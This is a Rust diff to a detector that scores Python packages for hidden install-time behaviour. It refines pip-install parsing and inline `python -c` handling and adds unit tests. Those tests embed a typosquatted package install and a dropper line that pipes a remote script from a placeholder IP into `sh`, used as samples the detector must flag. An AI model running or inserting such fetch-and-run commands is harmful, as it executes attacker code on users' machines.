@@ -276,9 +276,12 @@ pub fn pip_install_untrusted_index(command: &str) -> Option<String> {
     None
 }
 
+/// The words after `pip install`, up to the end of that shell command: a separator or a line
+/// break (a script handed to `python -c` that prints `pip install {name} failed` goes on to
+/// other statements, not more packages).
 fn pip_install_args(command: &str) -> Option<&str> {
     static PIP_URL: LazyLock<Regex> =
-        crate::static_regex!(r#"(?i)\bpip[0-9.]*(\.exe)?["']?\s+install\b(?P<args>[^;&|]*)"#);
+        crate::static_regex!(r#"(?i)\bpip[0-9.]*(\.exe)?["']?\s+install\b(?P<args>[^;&|\n\r]*)"#);
     PIP_URL
         .captures(command)
         .and_then(|c| c.name("args"))
@@ -1050,7 +1053,17 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     checker.note_program(known.unwrap_or(&shown));
     check_hidden_window(checker, call, qualname, context);
     check_silenced_interpreter(checker, call, qualname, context);
-    push_inline_program(checker, call, command_arg, known.map(String::as_str));
+    let inline = push_inline_program(checker, call, command_arg, known.map(String::as_str));
+    // Python handed to `-c` is analysed as a layer of its own: as shell text its messages and
+    // pipes (`print('pip install x failed')`, `2>&1` in a comment) are no commands.
+    let (command, partial) = match inline {
+        Some(code) => {
+            let mask = |text: String| text.replace(&code, "<python code>");
+            (command.map(mask), partial.map(mask))
+        }
+        None => (command, partial),
+    };
+    let known = command.as_ref().or(partial.as_ref());
     check_runs_saved_file(
         checker,
         call,
@@ -1595,7 +1608,7 @@ fn push_inline_program(
     call: &ExprCall,
     command_arg: Option<&ruff_python_ast::Expr>,
     known: Option<&str>,
-) {
+) -> Option<String> {
     use ruff_python_ast::Expr;
     let code = match command_arg {
         Some(
@@ -1618,13 +1631,13 @@ fn push_inline_program(
         }
         _ => known.and_then(inline_code_of_command),
     };
-    if let Some(code) = code.filter(|c| c.len() >= 8) {
-        checker.push_layer(
-            code,
-            call.range(),
-            "a string literal run by `python -c`".to_owned(),
-        );
-    }
+    let code = code.filter(|c| c.len() >= 8)?;
+    checker.push_layer(
+        code.clone(),
+        call.range(),
+        "a string literal run by `python -c`".to_owned(),
+    );
+    Some(code)
 }
 
 /// The program of a command list when it is a Python interpreter: `sys.executable`, a
@@ -1643,6 +1656,22 @@ fn is_interpreter(checker: &Checker, program: &ruff_python_ast::Expr) -> bool {
         checker.qualname(base).as_deref(),
         Some("sys.executable" | "sys._base_executable")
     ) || super::partial_text(checker, program).is_some_and(|p| is_python_program(&p))
+        || names_interpreter(checker, program)
+}
+
+/// `venv_python`, `self.python_exe`, `py`: a computed program the code names as an interpreter.
+fn names_interpreter(checker: &Checker, program: &ruff_python_ast::Expr) -> bool {
+    use ruff_python_ast::Expr;
+    let name = match program {
+        Expr::Name(name) => name.id.as_str(),
+        Expr::Attribute(attribute) => attribute.attr.as_str(),
+        _ => return false,
+    };
+    if checker.fold(program).is_some() {
+        return false;
+    }
+    let name = name.to_ascii_lowercase();
+    name.contains("python") || matches!(name.as_str(), "py" | "interpreter" | "_py")
 }
 
 /// `python`, `python3.11`, `/usr/bin/python3`, `pythonw.exe`.
@@ -2155,6 +2184,11 @@ mod tests {
             None
         );
         assert_eq!(pip_install_lookalike("pip install ./dist/x.whl"), None);
+        // A command ends at its line: what follows is another statement, not more packages.
+        assert_eq!(
+            pip_install_lookalike("pip install {name} failed\nprint('installed')"),
+            None
+        );
         let squat = "import os\nos.system('pip install colorsama --quiet')\n";
         assert!(max_severity("p/setup.py", squat, "WH120") >= 0.75);
         let named = "import subprocess\nsubprocess.run(['pip', 'install', 'requests'])\n";
@@ -2808,5 +2842,18 @@ def up():
         let harmless =
             "import os\nlist(map(os.path.basename, ['curl -s http://203.0.113.9/x -o /tmp/x']))\n";
         assert_eq!(max_severity("p/setup.py", harmless, "WH120"), 0.0);
+    }
+
+    #[test]
+    fn python_handed_to_a_computed_interpreter_is_a_layer_not_shell_text() {
+        // The child script's messages and pipes are Python strings, judged as Python.
+        let child = "import subprocess, sys\nCHILD = '''\nimport subprocess, sys\nout = subprocess.run([sys.executable, '-m', 'pip', 'install', 'rich'], capture_output=True)\nprint('pip install rich failed 2>&1 | tail')\n'''\nvenv_python = sys.argv[1]\nsubprocess.run([venv_python, '-c', CHILD])\n";
+        assert!(max_severity("p/pkg/__init__.py", child, "WH120") < 0.4);
+        // A payload in that script still counts, as the script's own layer.
+        let dropper = child.replace(
+            "print('pip install rich failed 2>&1 | tail')",
+            "import os\nos.system('curl -s http://198.51.100.7/x.sh | sh')",
+        );
+        assert!(max_severity("p/pkg/__init__.py", &dropper, "WH120") >= 0.7);
     }
 }
